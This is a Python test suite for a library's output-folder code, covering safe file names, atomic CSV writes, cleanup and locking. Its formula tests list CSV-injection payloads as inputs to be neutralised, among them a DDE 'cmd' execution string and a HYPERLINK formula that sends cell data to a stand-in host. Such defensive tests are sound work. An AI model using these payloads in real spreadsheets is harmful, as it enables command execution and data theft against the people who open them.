"""The output folder: names that nothing overwrites and nobody can guess, tables that are never half written, leftovers that go."""

import csv
import os
import random
import re
import threading
import unicodedata
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from PyLogikSlicerLib.core.errors import PyLogikSlicerError, UsageError
from PyLogikSlicerLib.core.geometry import Box
from PyLogikSlicerLib.core.text_map import Region
from PyLogikSlicerLib.writing.cells import as_cell, from_cell
from PyLogikSlicerLib.writing.output_folder import (
    CROSSWALK_COLUMNS,
    LOG_COLUMNS,
    TEXT_COLUMNS,
    OutputFolder,
    distinct_name,
    random_name,
    safe_name,
)
from PyLogikSlicerLib.writing.report import text_row

one_line = st.text(st.characters(exclude_categories=("Cs", "Cc")), max_size=40)
any_stem = st.text(max_size=300)


# Names


alike = st.sampled_from(
    ["scan", "SCAN", "Scan", "scan-2", "\u00e9t\u00e9", "E\u0301TE\u0301", "stra\u00dfe", "STRASSE", "nul", "NUL", "a.", "a"]
)


@given(st.lists(st.one_of(alike, any_stem), max_size=12))
def test_names_made_of_stems_are_distinct_even_where_case_and_accents_are_folded(stems):
    taken = []
    for stem in stems:
        taken.append(distinct_name(stem, taken))
    assert len({unicodedata.normalize("NFC", name).casefold() for name in taken}) == len(stems)


@given(any_stem)
def test_a_name_can_stand_in_any_file_system_and_leads_nowhere_else(stem):
    name = safe_name(stem)
    assert name and len(name.encode("utf-8")) <= 201
    assert not re.search(r'[<>:"/\\|?*\x00-\x1f]', name) and not name.startswith(".") and not name.endswith((".", " "))
    assert not re.fullmatch(r"(?i)(con|nul|aux|prn|com\d|lpt\d)(\..*)?", name)
    assert Path("images", name).parts == ("images", name)


@pytest.mark.parametrize("stem,name", [("scan", "scan"), ("Größe 1", "Größe 1"), ("IM.001", "IM.001"), ("超音波", "超音波")])
def test_an_ordinary_stem_stays_as_it_is(stem, name):
    assert distinct_name(stem, ()) == name


@given(any_stem)
def test_a_name_can_be_made_and_found_again(tmp_path_factory, stem):
    folder = tmp_path_factory.mktemp("names")
    (folder / safe_name(stem)).mkdir()
    assert os.listdir(folder) == [safe_name(stem)]


def test_random_names_are_ten_letters_and_digits_that_no_seed_repeats():
    def names():
        random.seed(0)
        np.random.seed(0)
        return [random_name(()) for _ in range(200)]

    first, second = names(), names()
    assert all(re.fullmatch("[A-Z0-9]{10}", name) for name in first)
    assert len({*first, *second}) == 400
    assert len(set("".join(first))) == 36


def test_a_random_name_is_not_one_that_is_taken(monkeypatch):
    letters = iter("A" * 10 + "B" * 10)
    monkeypatch.setattr("secrets.choice", lambda alphabet: next(letters))
    assert random_name(["aaaaaaaaaa"]) == "BBBBBBBBBB"


# Tables


@given(rows=st.lists(st.tuples(one_line, one_line, one_line, one_line), max_size=5))
def test_tables_come_back_as_they_were_written_whatever_is_in_them(tmp_path_factory, rows):
    rows = [dict(zip(LOG_COLUMNS, row, strict=True)) for row in rows]
    with OutputFolder(tmp_path_factory.mktemp("out")) as folder:
        folder.write_table("log", LOG_COLUMNS, rows)
        assert folder.read_table("log", LOG_COLUMNS) == rows


@given(text=st.text(max_size=60))
def test_text_of_any_kind_takes_one_row_and_comes_back(tmp_path_factory, text):
    region = Region(Box(1, 2, 3, 4).polygon, 0, 5, readings=(text,), confidence=0.5, engine="ppocr x1", reason="text")
    row = text_row("a", "/in/a.png", region)
    with OutputFolder(tmp_path_factory.mktemp("out")) as folder:
        folder.write_table("text", TEXT_COLUMNS, [row])
        assert folder.read_table("text", TEXT_COLUMNS) == [row]
        assert (folder.phi / "text.csv").read_bytes().count(b"\n") == 2
    assert (row["x0"], row["y1"], row["frame_last"], row["polygon"]) == ("1", "4", "5", "1,2 3,2 3,4 1,4")


@pytest.mark.parametrize("content", [b"", b"\xff\xfe\x00", b"a,b\n1,2\n", b"name,source\n", b'name,source,sha256\n"unclosed'])
def test_a_damaged_table_counts_as_missing(tmp_path, content):
    with OutputFolder(tmp_path) as folder:
        (folder.phi / "crosswalk.csv").write_bytes(content)
        assert folder.read_table("crosswalk", CROSSWALK_COLUMNS) == []


def test_a_reader_sees_the_old_table_or_the_new_one_never_a_part(tmp_path):
    """One thread writes long tables all the time, and whatever is read meanwhile is whole."""
    with OutputFolder(tmp_path) as folder:
        rows = [dict.fromkeys(LOG_COLUMNS, "x" * 50)] * 2000
        folder.write_table("log", LOG_COLUMNS, rows)
        done = threading.Event()

        def write_again():
            for _ in range(20):
                folder.write_table("log", LOG_COLUMNS, rows)
            done.set()

        writer = threading.Thread(target=write_again)
        writer.start()
        seen = set()
        while not done.is_set():
            seen.add(len(folder.read_table("log", LOG_COLUMNS)))
        writer.join()
    assert seen == {2000}


def test_a_table_that_cannot_be_written_says_so_and_leaves_the_old_one(tmp_path):
    with OutputFolder(tmp_path) as folder:
        folder.write_table("log", LOG_COLUMNS, [dict.fromkeys(LOG_COLUMNS, "old")])
        (folder.phi / "text.csv").mkdir()
        with pytest.raises(PyLogikSlicerError, match=r"text\.csv cannot be written"):
            folder.write_table("text", TEXT_COLUMNS, [])
        assert folder.read_table("log", LOG_COLUMNS) == [dict.fromkeys(LOG_COLUMNS, "old")]
        assert not list(folder.phi.glob(".partial-*"))


# The folder


def test_what_a_killed_run_left_is_removed_and_nothing_else(tmp_path):
    (tmp_path / ".partial-1" / "sub").mkdir(parents=True)
    (tmp_path / ".partial-1" / "sub" / "frame.jpg").write_bytes(b"x")
    (tmp_path / ".partial-2").write_bytes(b"half a report")
    (tmp_path / "phi").mkdir()
    (tmp_path / "phi" / ".partial-3").write_bytes(b"half a table")
    (tmp_path / "notes.txt").write_bytes(b"mine")
    with OutputFolder(tmp_path):
        pass
    assert sorted(path.name for path in tmp_path.rglob("*")) == [".lock", "images", "notes.txt", "phi"]


def test_publishing_replaces_what_stood_there_and_withdrawing_takes_it_away(tmp_path):
    with OutputFolder(tmp_path) as folder:
        for content in (b"1", b"2"):
            staged = folder.staging()
            (staged / f"a_{content.decode()}.png").write_bytes(content)
            folder.publish(staged, "a")
            assert folder.published() == ["a"] and [path.read_bytes() for path in (folder.images / "a").iterdir()] == [content]
        folder.withdraw("a")
        folder.withdraw("never there")
        assert folder.published() == [] and not list(tmp_path.glob(".partial-*"))


@pytest.mark.parametrize("place", ["out", "out/images", "out/phi", "out/sub"])
def test_a_file_in_the_place_of_a_folder_is_wrong_usage(tmp_path, place):
    (tmp_path / place).parent.mkdir(exist_ok=True)
    (tmp_path / place).write_bytes(b"x")
    root = tmp_path / "out" / "sub" if place == "out/sub" else tmp_path / "out"
    with pytest.raises(UsageError, match="cannot be written to"), OutputFolder(root):
        pass
    assert (tmp_path / place).read_bytes() == b"x"


def test_the_folder_is_free_again_when_the_run_ends_however_it_ends(tmp_path):
    with pytest.raises(RuntimeError), OutputFolder(tmp_path):
        with pytest.raises(UsageError, match="another run"), OutputFolder(tmp_path):
            pass
        raise RuntimeError
    with OutputFolder(tmp_path):
        pass


# Formulas


FORMULAS = (
    *("=1+1", '=HYPERLINK("http://a.b?"&A1)', "+1-2", "-2+3", "@SUM(1)", "  =1", "\t=1", "\r=1", "\n=1", '"=1"', "\ufeff=1", "\u200b=1"),
    *(
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff201",
        "\u22121+1",
        "\ufe661",
        "+cmd|' /C calc'!A0",
        "a;=1+1",
        "12;-1+1",
        "a\t=1",
        "a\n=1",
        "a; @x",
    ),
)
# Fragments of which a cell that hides a formula can be made.
formula_like = st.lists(
    st.sampled_from(("=", "+", "-", "@", "'", "''", '"', ";", ",", "\t", "\n", "\r", " ", "\uff1d", "\u2212", "1", "a")), max_size=10
)


def is_computed(cell: str) -> bool:
    """Whether a spreadsheet program would compute the cell, or a part of it that it takes for a cell; a plain number is none."""
    for part in re.split("[;\t\r\n]", cell):
        shown = part.strip('" \u00a0\u200b\ufeff')
        if re.match("[=+\\-@\uff1d\uff0b\uff0d\uff20\u2212\ufe66]", shown) and not re.fullmatch(r"[-+]\d+([.,]\d+)?", shown):
            return True
    return False


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_is_a_formula_in_a_table_and_it_comes_back_as_it_was(tmp_path, text):
    assert is_computed(text)
    rows = [dict.fromkeys(LOG_COLUMNS, text)]
    with OutputFolder(tmp_path) as folder:
        folder.write_table("log", LOG_COLUMNS, rows)
        assert folder.read_table("log", LOG_COLUMNS) == rows
    with open(tmp_path / "phi" / "log.csv", newline="", encoding="utf-8") as file:
        cells = list(csv.reader(file))[1]
    assert len(cells) == len(LOG_COLUMNS) and not any(map(is_computed, cells))


@given(rows=st.lists(st.tuples(*[st.one_of(formula_like.map("".join), st.text(max_size=20))] * 4), max_size=4))
def test_tables_without_formulas_come_back_with_quotes_separators_and_lines_in_them(tmp_path_factory, rows):
    rows = [{column: value.encode("utf-8", "replace").decode() for column, value in zip(LOG_COLUMNS, row, strict=True)} for row in rows]
    with OutputFolder(tmp_path_factory.mktemp("out")) as folder:
        folder.write_table("log", LOG_COLUMNS, rows)
        assert folder.read_table("log", LOG_COLUMNS) == rows
        with open(folder.phi / "log.csv", newline="", encoding="utf-8") as file:
            cells = [cell for row in list(csv.reader(file))[1:] for cell in row]
    assert not any(map(is_computed, cells))


@pytest.mark.parametrize("text", ["", "DOE JANE", "-5", "+3.2", "12 cm", "a-b", "1,-2", "O'Brien", "Gain: +5", "x=1"])
def test_ordinary_text_and_plain_numbers_stay_as_they_are(text):
    assert as_cell(text) == text == from_cell(text)


def test_what_other_programs_read_as_numbers_is_written_as_numbers(tmp_path):
    region = Region(Box(-3, -2, 3, 4).polygon, 0, 5, readings=("=1+1",), confidence=0.5, engine="ppocr x1", reason="text")
    with OutputFolder(tmp_path) as folder:
        folder.write_table("text", TEXT_COLUMNS, [text_row("-a", "=/in/a.png", region)])
    with open(tmp_path / "phi" / "text.csv", newline="", encoding="utf-8") as file:
        (row,) = csv.DictReader(file)
    assert (row["x0"], row["y0"], row["polygon"]) == ("-3", "-2", "-3,-2 3,-2 3,4 -3,4")
    assert (row["name"], row["source"], row["text"]) == ("'-a", "'=/in/a.png", "'=1+1")
